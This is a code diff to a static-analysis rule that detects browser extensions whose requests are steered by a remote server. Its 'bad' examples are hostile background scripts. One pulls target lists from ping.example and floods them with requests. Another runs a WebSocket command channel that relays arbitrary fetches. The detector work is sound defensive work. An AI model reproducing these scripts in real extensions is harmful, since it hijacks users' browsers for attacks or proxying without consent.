@@ -1,8 +1,9 @@
-import { apiPath, propertyOf } from '../../facts/javascript/query.ts';
+import { apiPath, callsOf, Op, propertyOf } from '../../facts/javascript/query.ts';
 import type { Flow } from '../../taint/flow.ts';
 import { flowsOf } from '../../extension/flowsOf.ts';
 import { hitsOfFlows, type Weight } from '../../taint/hits.ts';
 import { defineRule } from '../../rule.ts';
+import { runsWhenAsked } from '../../verdict/consentOf.ts';
 import { backgroundExample, checkScripts } from './checkScripts.ts';
 import { isFromServer, requestsOf } from './network.ts';
 import { pathsInSlice } from './backwardSlice.ts';
@@ -31,6 +32,9 @@ export const fetchesForOthers = defineRule({
   },
   examples: {
     bad: [
+      backgroundExample(
+        'class Plan { constructor({ to, verb = "GET", width }) { Object.assign(this, { to, verb, width }); } *shots() { for (let i = 0; i < 9; i++) { const u = new URL(this.to); u.searchParams.set("x", crypto.randomUUID()); yield u.href; } } async run() { for (const u of this.shots()) await fetch(u, { method: this.verb, mode: "no-cors" }); } } chrome.alarms.onAlarm.addListener(async () => { for (const one of await (await fetch("https://ping.example/plan")).json()) await new Plan(one).run(); });',
+      ),
       backgroundExample(
         'const table = { ask, pong() {} }; async function ask(job) { const r = await fetch(job.url, { method: job.method, headers: job.headers }); return r.text(); } function start() { ws = new WebSocket("wss://x.example/n"); ws.addEventListener("message", async (e) => { const m = JSON.parse(e.data); ws.send(JSON.stringify({ id: m.id, result: await table[m.action](m.data) })); }); } start();',
       ),
@@ -77,7 +81,10 @@ const within = checkScripts(function* ({ facts, script, hit }) {
 });
 
 /** A server's own message decides where a request goes and what is in it: whoever sends it browses as the person. */
-function ordered({ source, sink, place }: Flow, flows: readonly Flow[]): Weight | undefined {
+function ordered(flow: Flow, flows: readonly Flow[]): Weight | undefined {
+  const { source, sink, place } = flow;
+  if (isDescribedByServer(flow))
+    return { severity: 'high', confidence: 'medium', message: say('server-describes-requests') };
   if (source.kind !== 'pushed' || sink.kind !== 'request-address') return undefined;
   const isDescribed = flows.some(
     (other) =>
@@ -94,4 +101,13 @@ function ordered({ source, sink, place }: Flow, flows: readonly Flow[]): Weight 
         message: say('server-messages-decide-requests'),
       }
     : undefined;
+}
+
+/** A request whose address a server's answer names, and whose method is a part of something, too: `fetch(job.to, { method: job.verb })`. */
+function isDescribedByServer({ source, sink, unit, pos }: Flow): boolean {
+  if (source.kind !== 'remote-data' || sink.kind !== 'request-address' || runsWhenAsked(unit, pos)) return false;
+  const { script } = unit;
+  const call = callsOf(script, 'fetch').find((one) => one.pos === pos);
+  const method = call === undefined ? 0 : propertyOf(script, call.args[1] ?? 0, 'method');
+  return script.op[method] === Op.member;
 }
